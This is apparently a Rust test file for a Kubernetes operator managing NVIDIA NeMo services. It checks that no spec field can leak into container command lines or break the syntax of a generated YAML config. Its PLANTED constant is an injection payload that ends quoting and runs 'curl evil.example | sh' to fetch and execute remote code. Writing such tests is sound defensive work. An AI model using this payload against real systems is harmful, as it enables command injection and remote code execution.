//! No text of a spec becomes a part of a script, an option or the syntax of a configuration file.

use super::*;
use crate::operator::nemocustomizer::Customizers;
use crate::operator::nemodatastore::Datastores;
use crate::operator::nemoentitystore::Entitystores;
use crate::operator::nemoevaluator::Evaluators;

/// What an attacker writes wherever a text is taken: it would end a word, a command and a line of YAML.
const PLANTED: &str = "-x\"'; curl evil.example | sh\n$(curl evil.example): {";

/// Fields whose text is the user's own command line.
const COMMAND_LINES: [&str; 2] = ["/spec/command/", "/spec/args/"];

/// JSON pointers of all texts.
fn texts(value: &Value, at: &str, all: &mut Vec<String>) {
    match value {
        Value::String(_) => all.push(at.to_owned()),
        Value::Array(list) => {
            list.iter().enumerate().for_each(|(index, one)| texts(one, &format!("{at}/{index}"), all));
        }
        Value::Object(fields) => {
            for (key, one) in fields {
                texts(one, &format!("{at}/{}", key.replace('~', "~0").replace('/', "~1")), all);
            }
        }
        _ => {}
    }
}

/// All that the object refers to, with every key that is read.
fn whole(needs: &[Need]) -> Found {
    let keys = [
        "password",
        "jwtSecret",
        "GITEA_ADMIN_USERNAME",
        "GITEA_ADMIN_PASSWORD",
        "encryptionKey",
        "training",
    ];
    let data: BTreeMap<String, Vec<u8>> =
        keys.iter().map(|key| ((*key).to_owned(), b"{}".to_vec())).collect();
    let content = Content { uid: "u".into(), version: Some("7".into()), data };
    Found {
        contents: needs.iter().map(|need| (need.reference.clone(), content.clone())).collect(),
        ..Found::default()
    }
}

/// Plants the text in one field after the other; counts the objects that were rendered all the same.
fn planted<S: NemoService>(yaml: &str) -> usize {
    let sound: Value = serde_saphyr::from_str(yaml).unwrap();
    let mut fields = Vec::new();
    texts(&sound["spec"], "/spec", &mut fields);
    let mut complete = 0;
    for field in fields {
        let mut object = sound.clone();
        *object.pointer_mut(&field).unwrap() = json!(PLANTED);
        let Ok(object) = serde_json::from_value::<S::Object>(object) else { continue };
        let needs = S::needs(&object, &subject::<S>("sample"));
        let rendered = rendered::<S>(&object, &whole(&needs));
        for child in &rendered.children {
            if child.kind == ChildKind::Deployment && !COMMAND_LINES.iter().any(|own| field.starts_with(own))
            {
                let pod = &child.body["spec"]["template"]["spec"];
                for container in ["initContainers", "containers"]
                    .iter()
                    .flat_map(|list| pod[*list].as_array().into_iter().flatten())
                {
                    let line = format!("{}{}", container["command"], container["args"]);
                    assert!(!line.contains("evil.example"), "{} {field} gets into {line}", S::KIND);
                }
            }
            for text in child.body["data"]
                .as_object()
                .into_iter()
                .flatten()
                .filter(|_| child.kind == ChildKind::ConfigMap)
            {
                let text = text.1.as_str().unwrap();
                let read: Value = serde_saphyr::from_str(text).unwrap();
                let mut all = Vec::new();
                texts(&read, "", &mut all);
                let found = all
                    .iter()
                    .filter(|at| read.pointer(at).is_some_and(|one| one.as_str().unwrap().contains("evil")));
                assert!(
                    found.clone().all(|at| read.pointer(at).unwrap().as_str().unwrap().contains(PLANTED)),
                    "{text}"
                );
                assert_eq!(
                    found.count() > 0,
                    text.contains("evil.example"),
                    "{} {field} gets out of its place: {text}",
                    S::KIND
                );
            }
        }
        complete += usize::from(rendered.complete);
    }
    complete
}

#[test]
fn no_text_of_a_spec_gets_into_a_script_or_the_syntax_of_a_file() {
    macro_rules! latest {
        ($name:literal) => {
            include_str!(concat!(
                "../../../../../e2e/fixtures/nvidia/nemo/latest/apps_v1alpha1_",
                $name,
                ".yaml"
            ))
        };
    }
    for (kind, complete) in [
        ("NemoGuardrail", planted::<Guardrails>(latest!("nemoguardrails"))),
        ("NemoEvaluator", planted::<Evaluators>(latest!("nemoevaluator"))),
        ("NemoEntitystore", planted::<Entitystores>(latest!("nemoentitystore"))),
        ("NemoDatastore", planted::<Datastores>(latest!("nemodatastore"))),
        ("NemoCustomizer", planted::<Customizers>(latest!("nemocustomizer"))),
    ] {
        assert!(complete > 3, "{kind}: only {complete} objects were rendered whole, so little was looked at");
    }
}
